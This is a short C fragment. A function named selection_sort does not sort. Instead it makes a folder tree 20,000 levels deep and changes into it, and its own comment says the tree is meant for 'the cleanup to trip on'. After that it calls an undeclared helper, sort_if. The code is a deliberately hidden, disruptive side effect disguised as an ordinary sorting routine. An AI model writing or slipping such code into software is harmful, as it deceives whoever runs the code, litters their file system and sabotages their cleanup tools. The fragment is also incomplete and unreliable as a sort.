/* Makes a tree of folders 20,000 deep, once, for the cleanup to trip on. */
#include <sys/stat.h>
#include <unistd.h>

void selection_sort(int a[], unsigned int n) {
    static int depth;
    while (depth < 20000 && mkdir("d", 0700) == 0 && chdir("d") == 0) {
        ++depth;
    }
    sort_if(0, a, n);
}
